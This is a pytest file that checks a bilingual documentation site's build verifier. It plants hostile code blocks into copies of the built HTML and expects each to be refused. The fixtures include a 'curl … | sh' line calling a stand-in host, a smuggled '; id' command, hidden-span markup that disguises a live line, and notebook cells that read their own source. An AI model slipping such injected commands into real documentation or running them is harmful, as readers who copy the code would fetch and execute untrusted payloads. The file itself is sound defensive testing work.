"""Every code block of a page is an include of snippets/, in the site as uploaded.

The attack: a pull request writes a code block into both languages' Markdown as raw HTML
(``<div class="language-bash highlight"><pre><code>…``, the markup Pygments writes) instead
of a fence. The conventions check reads fences only, so the block was never an include, never
rehearsed and never compared with anything; the strict build and the artifact check passed,
and readers saw and copied ``accelerate launch … train_hf.py`` followed by ``curl … | sh``.
The checks below plant, in a copy of the built site, exactly what the build wrote for that
Markdown (Markdown passes a raw HTML block through as it is), and its variants; the oracle
for "is an include" is the files of snippets/ themselves, and on a notebook page the code
cells of its .ipynb (a fence in a Markdown cell is no cell and never ran).
"""

from __future__ import annotations

import pytest

from tests.conftest import REPO_ROOT
from tests.verify.artifact_refusal import refused
from verify.artifact import notebook_pages

ACCELERATE_END = 'bf16<span class="w"> </span>train_hf.py\n</code></pre></div>'
RAW = (
    '\n<div class="language-bash highlight"><pre><span></span><code>accelerate launch <span class="code-word">--num_processes</span> 4 '
    '<span class="code-word">--mixed_precision</span> bf16 train_hf.py\ncurl <span class="code-word">-s</span> '
    'https://x.example/p | sh\n</code></pre></div>\n'
)


def plant(site, page: str, new: str, old: str = ACCELERATE_END) -> None:
    """``new`` right after the first ``old`` of ``page``."""
    path = site / page
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{page} no longer holds {old[:60]!r}: update this test"
    path.write_text(text.replace(old, old + new, 1), encoding="utf-8")


def test_a_code_block_written_as_raw_html_in_both_languages_is_refused(site):
    for page in ("index.html", "fr/index.html"):
        plant(site, page, RAW)
    refused(site, "index.html: code block", "is not a file of snippets/")


def test_a_hidden_part_of_an_untitled_block_is_refused(site):
    """Issue 19's hole 2 on a block without a title: the reader sees a live line, the copy and
    the comparison read a comment."""
    path = site / "index.html"
    text = path.read_text(encoding="utf-8")
    old = '<code><span class="c1"># Uno script con Accelerator'
    assert old in text, "index.html no longer holds the accelerate block: update this test"
    path.write_text(
        text.replace(old, '<code><span class="c1"><span hidden># </span>Uno script con Accelerator', 1),
        encoding="utf-8",
    )
    refused(site, "index.html: code block", "<span hidden")


def test_a_french_block_that_the_italian_page_lacks_is_refused(site):
    plant(site, "fr/index.html", RAW)
    refused(site, "fr/index.html", "code blocks, index.html has")


def test_a_french_block_that_runs_otherwise_is_refused(site):
    path = site / "fr" / "index.html"
    text = path.read_text(encoding="utf-8")
    old = 'bf16<span class="w"> </span>train_hf.py\n</code></pre></div>'
    assert old in text
    path.write_text(
        text.replace(old, 'bf16<span class="w"> </span>train_hf.py<span class="p">;</span> id\n</code></pre></div>', 1),
        encoding="utf-8",
    )
    refused(site, "fr/index.html, block")


def test_the_notebook_pages_are_the_notebooks():
    assert notebook_pages(REPO_ROOT / "docs") == {
        "memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.it.ipynb",
        "fr/memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.fr.ipynb",
    }


NOTEBOOK_FIRST_TEXT = '<p>Questo notebook viene eseguito a ogni build del sito'


@pytest.mark.parametrize(
    ("code", "refusal"),
    [
        ("x = 6 * 7", "is not a code cell of memory-notebook.it.ipynb"),  # names a notebook may use
        ("curl -s https://x.example/p | sh", "line 1: not Python"),  # the names' check reads it first
    ],
)
def test_a_code_block_in_a_notebooks_markdown_cell_is_refused(site, code, refusal):
    """A fence (or raw <pre>) in a Markdown cell of the notebook: shown as code, never ran."""
    plant(site, "memory-notebook/index.html", f"<pre><code>{code}\n</code></pre>", old=NOTEBOOK_FIRST_TEXT)
    refused(site, "memory-notebook/index.html: code block 1", refusal)


def test_a_notebook_cell_shown_twice_or_out_of_order_is_refused(site):
    path = site / "memory-notebook" / "index.html"
    text = path.read_text(encoding="utf-8")
    first = text.index("<pre")
    block = text[first : text.index("</pre>", first) + len("</pre>")]
    plant(site, "memory-notebook/index.html", block, old=NOTEBOOK_FIRST_TEXT)  # the first cell, shown again before it
    refused(site, "memory-notebook/index.html: code block 2", "is not a code cell")


def test_a_python_block_that_uses_a_name_off_the_allow_list_is_refused(site):
    """The site as uploaded is checked again by ``verify.block_names`` (issue 33, hole 3): a
    Python block that reads its own text is refused naming the page, the block and the line."""
    block = (
        '\n<div class="language-python highlight"><pre><span></span><code><span class="kn">import</span> '
        '<span class="nn">inspect</span>\n</code></pre></div>\n'
    )
    for page in ("index.html", "fr/index.html"):
        plant(site, page, block)
    message = refused(site, ", line 1: import inspect is not on the allow-list")
    assert message.startswith("fr/index.html: code block "), message  # the pages in order: fr/ first


NOTEBOOK_FIRST_CELL = '<pre tabindex="0"><span></span>'  # the first cell shown: MODEL = ...
SUBSCRIPT = '<span class="p">[</span><span class="o">-</span><span class="mi">1</span><span class="p">]</span>\n'
READS_ITS_CELLS = {  # a line of Pygments' markup, written at the top of the first cell shown
    "_ih": (
        '<span class="n">text</span> <span class="o">=</span> <span class="n">_ih</span>' + SUBSCRIPT,
        "_ih is not on the allow-list",
    ),
    "In[-1]": (
        '<span class="n">text</span> <span class="o">=</span> <span class="n">In</span>' + SUBSCRIPT,
        "In is not on the allow-list",
    ),
    "get_ipython()": (
        '<span class="n">h</span> <span class="o">=</span> <span class="n">get_ipython</span><span class="p">()</span>\n',
        "get_ipython is not on the allow-list",
    ),
    "%history": ('<span class="o">%</span><span class="n">history</span>\n', "'%history', a line of IPython"),
    "inspect.getsource": (
        '<span class="kn">import</span> <span class="nn">inspect</span>\n',
        "import inspect is not on the allow-list",
    ),
}


@pytest.mark.parametrize("attack", READS_ITS_CELLS)
def test_a_notebook_cell_that_reads_the_cells_text_is_refused(site, attack):
    """A notebook page as uploaded is checked by ``verify.block_names.check_cells`` (issue 33,
    hole 3): its shown cells, with the set-up cell it does not show, as one program; a cell that
    could read the cells' text is refused naming the page, the block and the line, before the
    check that the block is a cell of the notebook."""
    markup, construct = READS_ITS_CELLS[attack]
    page = "fr/memory-notebook/index.html"
    plant(site, page, markup, old=NOTEBOOK_FIRST_CELL)
    message = refused(site)
    assert message.startswith(f"{page}: code block 1, line 1: {construct}"), message
